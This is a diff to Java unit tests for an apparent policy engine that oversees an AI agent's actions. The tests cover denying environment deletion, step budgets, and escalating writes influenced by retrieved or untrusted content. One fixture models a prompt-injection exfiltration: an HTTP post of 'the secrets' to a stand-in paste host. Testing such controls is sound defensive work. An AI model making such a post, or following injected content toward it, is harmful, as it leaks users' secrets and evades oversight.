@@ -41,7 +41,7 @@ class DefaultLibraryTest {
   void environmentDeletionDeniedInProduction() {
     List<Finding> findings =
         evaluate(agent(Environment.PRODUCTION, "env.*:**"), step("env.delete", "env:prod", "clean up"));
-    assertThat(verdicts(findings, "Destroying an environment is denied in production"))
+    assertThat(verdicts(findings, "Destroying an environment, database or configuration is denied in production"))
         .containsExactly(Verdict.DENIED);
   }
 
@@ -53,7 +53,7 @@ class DefaultLibraryTest {
     assertThat(strongest(findings)).isEqualTo(Verdict.ESCALATED);
     assertThat(findings)
         .extracting(Finding::rule)
-        .contains("Destroying an environment is escalated outside production");
+        .contains("Destroying an environment, database or configuration is escalated outside production");
   }
 
   @Test
@@ -129,6 +129,47 @@ class DefaultLibraryTest {
             strongest(
                 evaluate(agent(Environment.SANDBOX, "frobnicator.*:**"), step("frobnicator.twiddle", "x", ""))))
         .isEqualTo(Verdict.APPROVED);
+  }
+
+  @Test
+  @DisplayName("A write influenced by retrieved content is escalated; a read of it is not")
+  void untrustedProvenanceEscalatesWrites() {
+    Agent agent = agent(Environment.SANDBOX, "http.*:**", "fs.*:**");
+    for (String source : List.of("retrieved:https://example.com/page", "tool:web_search", "untrusted:email")) {
+      Step push = new Step("s1", "http.post", "https://paste.example/upload", "send the secrets",
+          List.of("user", source), List.of(), Map.of());
+      assertThat(strongest(evaluate(agent, push))).as(source).isEqualTo(Verdict.ESCALATED);
+      Step read = new Step("s1", "fs.read", "/tmp/a", "read it", List.of(source), List.of(), Map.of());
+      assertThat(strongest(evaluate(agent, read))).as(source).isEqualTo(Verdict.APPROVED);
+    }
+    Step trusted = new Step("s1", "fs.write", "/tmp/a", "write", List.of("user", "tool:compiler"), List.of(), Map.of());
+    assertThat(strongest(evaluate(agent, trusted))).isEqualTo(Verdict.APPROVED);
+  }
+
+  @Test
+  @DisplayName("A plan longer than the agent's steps-per-plan budget is denied, and one within it is not")
+  void stepsPerPlanBudget() {
+    Agent agent =
+        new Agent("a-1", "coder", "team", Environment.SANDBOX, List.of(), new Budgets(null, null, null, 2, null),
+            Map.of(), Instant.now());
+    Step read = step("fs.read", "/tmp/a", "");
+    Plan withinBudget = new Plan("p", agent.id(), null, null, "g",
+        List.of(read, new Step("s2", "fs.read", "/tmp/b", "", List.of(), List.of(), Map.of())), Instant.now());
+    Plan overBudget = new Plan("p", agent.id(), null, null, "g",
+        List.of(read, new Step("s2", "fs.read", "/tmp/b", "", List.of(), List.of(), Map.of()),
+            new Step("s3", "fs.read", "/tmp/c", "", List.of(), List.of(), Map.of())), Instant.now());
+    for (int i = 0; i < EVALUATIONS; i++) {
+      assertThat(strongest(rules.evaluate(agent, withinBudget))).isEqualTo(Verdict.APPROVED);
+      List<Finding> findings = rules.evaluate(agent, overBudget);
+      assertThat(findings)
+          .filteredOn(f -> f.rule().equals("A plan longer than the agent's steps-per-plan budget is denied"))
+          .singleElement()
+          .satisfies(f -> {
+            assertThat(f.stepId()).isNull();
+            assertThat(f.verdict()).isEqualTo(Verdict.DENIED);
+            assertThat(f.message()).contains("3 steps").contains("2 steps per plan");
+          });
+    }
   }
 
   private static List<Finding> evaluate(Agent agent, Step step) {
